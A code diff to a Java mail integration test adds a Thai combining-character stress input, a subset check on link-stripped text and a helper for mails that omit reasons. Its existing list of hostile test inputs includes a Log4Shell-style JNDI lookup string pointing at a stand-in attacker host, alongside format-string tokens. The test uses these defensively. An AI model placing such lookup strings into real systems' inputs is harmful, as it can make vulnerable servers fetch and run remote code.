@@ -134,6 +134,7 @@ class MailsIT {
             "\u0E01\u0E33".repeat(500) + "\uD83D\uDC69\u200D\uD83C\uDFEB".repeat(300),
             "\u05DE\u05E4\u05DC \u0627\u0644\u0645\u062F\u0631\u0633\u0629 \u5B66\u6821",
             "\u00AB\u00BB ${jndi:ldap://evil.example/x} %s %n {0}",
+            "\u0E01\u0E34\u0E48\u0E4C".repeat(500),
             "a".repeat(5_000),
             "\u200B".repeat(5_000));
 
@@ -152,7 +153,11 @@ class MailsIT {
             assertThat(mail.links())
                     .allMatch(link -> link.equals(OURS) || link.startsWith(OURS + "/") || link.startsWith(OUR_PAGES));
             assertThat(source).hasSizeLessThan(MAX_LENGTH);
-            if (mail.links().size() == plain.get(i).links().size()) {
+            assertThat(withoutMarks(mail))
+                    .isSubsetOf(plain.stream()
+                            .flatMap(any -> withoutMarks(any).stream())
+                            .toList());
+            if (mail.links().size() == plain.get(i).links().size() && !leavesOutReasons(mail)) {
                 assertThat(withoutMarks(mail)).isEqualTo(withoutMarks(plain.get(i)));
             }
             assertThat(mail.text().replace(OURS, "").replace(OUR_PAGES, ""))
@@ -201,6 +206,11 @@ class MailsIT {
         }
         assertThat(rest).doesNotContainPattern("[\u2068\u2069]");
         assertThat(line).doesNotContainPattern("[\u202A-\u202E\u2066\u2067\u200B-\u200F\u061C]");
+    }
+
+    private static boolean leavesOutReasons(ReceivedMail mail) {
+        return Stream.of(Language.values())
+                .anyMatch(language -> mail.text().contains(language.words().moreReasons(1)));
     }
 
     private static List<String> withoutMarks(ReceivedMail mail) {
